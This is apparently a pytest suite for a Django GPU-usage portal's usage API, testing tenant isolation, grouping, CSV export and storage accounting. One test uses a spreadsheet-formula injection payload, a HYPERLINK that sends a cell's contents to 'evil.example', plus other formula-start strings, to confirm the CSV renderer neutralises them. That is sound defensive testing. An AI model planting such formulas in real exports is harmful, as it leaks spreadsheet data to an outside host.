"""GET /api/v1/usage/ (JSON and CSV) and the usage pages: grouping, ranges, tenant isolation."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from tenants.models import Tenant
from tests.support.volumes import volume_lived
from usage.services import samples_insert, usage_rollup

from .conftest import T0, make_workload, sample_row

pytestmark = pytest.mark.django_db

H = dt.timedelta(hours=1)


@pytest.fixture
def usage(login, gpu_types, settings):
    """vision-lab: researcher's a100×2 10:00–12:00 at 50 %, lead's v100×1 11:00–13:00 (on
    the cluster east); nlp-lab: student's t4×4 10:00–14:00. Rolled up."""
    settings.PORTAL_USAGE_SCRAPE_INTERVAL = 15.0
    for name in ("researcher", "lead", "student", "admin"):
        login(name)
    users = {u.name or u.username: u for u in get_user_model().objects.all()}
    vision, nlp = Tenant.objects.get(name="vision-lab"), Tenant.objects.get(name="nlp-lab")
    workloads = {
        "train": make_workload(vision, users["researcher"], gpu_count=2, started_at=T0,
                               finished_at=T0 + 2 * H, name="train"),
        "infer": make_workload(vision, users["lead"], gpu_type="v100", started_at=T0 + H,
                               finished_at=T0 + 3 * H, name="infer", cluster="east"),
        "nlp": make_workload(nlp, users["student"], gpu_type="t4", gpu_count=4,
                             started_at=T0, finished_at=T0 + 4 * H, name="nlp"),
    }
    samples_insert(rows=[sample_row(T0 + t * dt.timedelta(seconds=15), workloads["train"],
                                    uuid=uuid, util=50.0)
                         for uuid in ("GPU-1", "GPU-2") for t in range(1, 481)])
    usage_rollup(since=T0, until=T0 + 5 * H, now=T0 + 24 * H)
    return {"vision": vision, "nlp": nlp, **workloads}


@pytest.fixture
def api(project_token):
    tokens: dict[tuple[str, str], str] = {}

    def _get(user: str, project: str, **params):
        if (user, project) not in tokens:  # a Keystone token per caller, not per request
            tokens[(user, project)] = project_token(user, project)
        token = tokens[(user, project)]
        return Client().get("/api/v1/usage/", params, HTTP_X_AUTH_TOKEN=token)
    return _get


DAY = {"since": "2025-03-03", "until": "2025-03-03"}


def test_a_member_sees_only_their_projects_usage(usage, api):
    response = api("researcher", "vision-lab", **DAY)
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["group_by"] == "tenant"
    assert [r["tenant"] for r in body["results"]] == ["vision-lab"]
    row = body["results"][0]
    assert row["gpu_hours_allocated"] == pytest.approx(2 * 2 + 1 * 2)
    assert row["gpu_hours_used"] == pytest.approx(2 * 2 * 0.5)
    assert row["workloads"] == 2 and row["util_avg"] == 50.0
    assert body["totals"]["gpu_hours_allocated"] == pytest.approx(6.0)
    # the same user in the other project sees that one only
    nlp = api("researcher", "nlp-lab", **DAY).json()["results"]
    assert [(r["tenant"], r["gpu_hours_allocated"]) for r in nlp] == [("nlp-lab", 16.0)]


def test_another_tenant_or_its_workload_is_not_found(usage, api):
    assert api("researcher", "vision-lab", tenant="nlp-lab", **DAY).status_code == 404
    assert api("researcher", "vision-lab", tenant=str(usage["nlp"].tenant_id),
               **DAY).status_code == 404
    assert api("researcher", "vision-lab", workload=usage["nlp"].pk, **DAY).status_code == 404
    mine = api("researcher", "vision-lab", tenant="vision-lab", workload=usage["train"].pk, **DAY)
    assert mine.status_code == 200
    assert mine.json()["results"][0]["gpu_hours_allocated"] == pytest.approx(4.0)
    # nothing of nlp-lab shows in any grouping
    for group_by in ("user", "gpu_type", "workload", "day"):
        body = api("researcher", "vision-lab", group_by=group_by, **DAY).json()
        assert body["totals"]["gpu_hours_allocated"] == pytest.approx(6.0), group_by


def test_group_by_variants(usage, api):
    by_user = api("lead", "vision-lab", group_by="user", **DAY).json()["results"]
    assert [(r["user"], r["gpu_hours_allocated"]) for r in by_user] == [
        ("lead", 2.0), ("researcher", 4.0)]
    by_type = api("lead", "vision-lab", group_by="gpu_type", **DAY).json()["results"]
    assert [(r["gpu_type"], r["gpu_hours_allocated"]) for r in by_type] == [
        ("a100", 4.0), ("v100", 2.0)]
    by_workload = api("lead", "vision-lab", group_by="workload", **DAY).json()["results"]
    assert {r["workload"]: r["gpu_hours_used"] for r in by_workload} == {
        "train": pytest.approx(2.0), "infer": 0.0}
    assert all(r["tenant"] == "vision-lab" for r in by_workload)
    by_day = api("lead", "vision-lab", group_by="day", **DAY).json()["results"]
    assert by_day == [{**by_day[0], "day": "2025-03-03", "gpu_hours_allocated": 6.0}]


def test_gpu_hours_per_cluster(usage, api, settings):
    """A job dispatched to another cluster is counted there, not on the home cluster."""
    by_cluster = api("lead", "vision-lab", group_by="cluster", **DAY).json()["results"]
    assert [(r["cluster"], r["gpu_hours_allocated"]) for r in by_cluster] == [
        ("east", 2.0), (settings.PORTAL_CLUSTER_NAME, 4.0)]
    csv_rows = list(csv.DictReader(io.StringIO(
        api("lead", "vision-lab", group_by="cluster", format="csv", **DAY).content.decode())))
    assert {row["cluster"] for row in csv_rows} == {"east", settings.PORTAL_CLUSTER_NAME}


def test_ragged_ranges_use_minutes_at_the_ends(usage, api):
    body = api("lead", "vision-lab", since="2025-03-03T10:30:00Z", until="2025-03-03T12:15:00Z",
               group_by="workload").json()
    allocated = {r["workload"]: r["gpu_hours_allocated"] for r in body["results"]}
    assert allocated == {"train": pytest.approx(2 * 1.5), "infer": pytest.approx(1.25)}


def test_admins_see_every_tenant_and_may_narrow(usage, api):
    rows = api("admin", "admin", **DAY).json()["results"]
    assert {r["tenant"]: r["gpu_hours_allocated"] for r in rows} == {"vision-lab": 6.0,
                                                                     "nlp-lab": 16.0}
    narrowed = api("admin", "admin", tenant="nlp-lab", group_by="user", **DAY).json()["results"]
    assert [(r["user"], r["gpu_hours_allocated"]) for r in narrowed] == [("student", 16.0)]
    assert api("admin", "admin", tenant="no-such", **DAY).status_code == 404


def test_csv_export(usage, api):
    response = api("researcher", "vision-lab", group_by="workload", format="csv", **DAY)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="gpu-usage-workload-20250303-20250304.csv"' == \
        response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["workload"] for r in rows] == ["train", "infer"]  # by workload id
    train = next(r for r in rows if r["workload"] == "train")
    assert float(train["gpu_hours_allocated"]) == 4.0 and float(train["gpu_hours_used"]) == 2.0
    assert list(rows[0]) == ["workload_id", "workload", "tenant", "user", "gpu_type",
                             "gpu_hours_allocated", "gpu_hours_used", "utilisation_percent",
                             "util_avg", "util_max", "samples", "workloads"]


def test_csv_cells_are_never_formulas(usage, api):
    """A workload named like a formula reaches the admin's spreadsheet as text (OWASP: a single
    quote in front); numbers stay numbers."""
    from workloads.models import Workload

    names = {"train": '=HYPERLINK("http://evil.example/?"&A1,"report")', "infer": "@SUM(1+1)"}
    for key, name in names.items():
        Workload.objects.filter(pk=usage[key].pk).update(name=name)
    response = api("researcher", "vision-lab", group_by="workload", format="csv", **DAY)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["workload"] for r in rows] == ["'" + names["train"], "'" + names["infer"]]
    assert float(rows[0]["gpu_hours_allocated"]) == 4.0


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    from usage.api.renderers import UsageCsvRenderer

    body = UsageCsvRenderer().render({"columns": ["name", "n"],
                                      "results": [{"name": value, "n": -3}]})
    assert list(csv.reader(io.StringIO(body.decode())))[1] == ["'" + value, "-3"]


@pytest.mark.parametrize(("params", "field"), [
    ({"since": "yesterday"}, "since"),
    ({"since": "2025-03-05", "until": "2025-03-01"}, "until"),
    ({"group_by": "node"}, "group_by"),
    ({"workload": "x"}, "workload"),
])
def test_bad_queries_are_400_with_the_field(usage, api, params, field):
    response = api("researcher", "vision-lab", **params)
    assert response.status_code == 400
    assert field in response.json()["fields"]


def test_without_a_token_it_is_401(db):
    assert Client().get("/api/v1/usage/").status_code == 401


def test_the_tenants_own_page_and_the_admin_page(usage, login, keystone):
    member = login("researcher")
    member.post("/switch-project/", {"project_id": keystone.project_ids["vision-lab"]})
    page = member.get("/usage/", {**DAY, "tenant": "nlp-lab"})  # tenant is ignored here
    assert page.status_code == 200
    text = page.content.decode()
    assert "vision-lab" in text and "nlp-lab" not in text.split("<main", 1)[1].split(
        "</form>", 1)[1]
    assert "6.00</strong> GPU-hours allocated" in text
    assert "/api/v1/usage/?since=" in text and "format=csv" in text
    assert member.get("/admin/usage/").status_code == 403

    admin = login("admin")
    page = admin.get("/admin/usage/", {**DAY, "group_by": "tenant"})
    assert page.status_code == 200
    assert "nlp-lab" in page.content.decode() and "22.00</strong>" in page.content.decode()
    # the CSV link works with the browser session
    csv_link = page.context["csv_url"]
    assert admin.get(csv_link).status_code == 200


@pytest.fixture
def volumes(usage):
    """vision-lab: researcher's `data` 10 GiB bound at 10:00, 40 GiB from 16:00, deleted at
    22:00; lead's project volume `shared` 24 GiB bound at 10:00. nlp-lab: student's `corpus`
    48 GiB bound at 10:00."""
    users = {u.name or u.username: u for u in get_user_model().objects.all()}
    volume_lived(usage["vision"], users["researcher"], name="data", size_gib=10,
                 made_at=T0 - 2 * H, bound_at=T0, grown=[(T0 + 6 * H, 40)],
                 deleted_at=T0 + 12 * H)
    volume_lived(usage["vision"], users["lead"], name="shared", scope="project", size_gib=24,
                 made_at=T0, bound_at=T0)
    volume_lived(Tenant.objects.get(name="nlp-lab"), users["student"], name="corpus", size_gib=48, made_at=T0,
                 bound_at=T0)
    return usage


# the day in UTC whatever the portal's time zone
UTC_DAY = {"since": "2025-03-03T00:00:00Z", "until": "2025-03-04T00:00:00Z"}


def test_storage_gib_days_beside_gpu_hours_by_tenant_and_user(volumes, api):
    body = api("researcher", "vision-lab", **UTC_DAY).json()
    assert body["columns"][-1] == "storage_gib_days"
    # data: 10 GiB × 6 h + 40 GiB × 6 h = 12.5; shared: 24 GiB × 14 h = 14; nlp-lab's: not here
    assert [(r["tenant"], r["storage_gib_days"]) for r in body["results"]] == \
        [("vision-lab", 26.5)]
    assert body["totals"]["storage_gib_days"] == 26.5
    by_user = api("researcher", "vision-lab", group_by="user", **UTC_DAY).json()
    # a user's own volumes only: the project's volume is no one user's, but is in the total
    assert sorted((r["user"], r["storage_gib_days"]) for r in by_user["results"]) == \
        [("lead", 0.0), ("researcher", 12.5)]
    assert by_user["totals"]["storage_gib_days"] == 26.5
    by_type = api("researcher", "vision-lab", group_by="gpu_type", **UTC_DAY).json()
    assert "storage_gib_days" not in by_type["columns"] + list(by_type["results"][0])
    one = api("researcher", "vision-lab", workload=volumes["train"].pk, **UTC_DAY).json()
    assert one["totals"]["storage_gib_days"] is None
    assert one["results"][0]["storage_gib_days"] is None
    every = api("admin", "admin", **UTC_DAY).json()
    assert [(r["tenant"], r["storage_gib_days"]) for r in every["results"]] == \
        [("nlp-lab", 28.0), ("vision-lab", 26.5)]
    narrowed = api("admin", "admin", tenant="nlp-lab", **UTC_DAY).json()
    assert narrowed["totals"]["storage_gib_days"] == 28.0


def test_storage_in_the_csv_the_schema_and_the_page(volumes, api, login, keystone):
    response = api("researcher", "vision-lab", group_by="user", format="csv", **UTC_DAY)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0])[-1] == "storage_gib_days"
    assert sorted((r["user"], float(r["storage_gib_days"])) for r in rows) == \
        [("lead", 0.0), ("researcher", 12.5)]
    schema = Client().get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    properties = schema["components"]["schemas"]
    assert "storage_gib_days" in properties["UsageRow"]["properties"]
    assert "storage_gib_days" in properties["UsageTotals"]["properties"]
    member = login("researcher")
    member.post("/switch-project/", {"project_id": keystone.project_ids["vision-lab"]})
    page = member.get("/usage/", UTC_DAY).content.decode()
    assert "26.5</strong> GiB-days of storage" in page and "storage GiB-days" in page
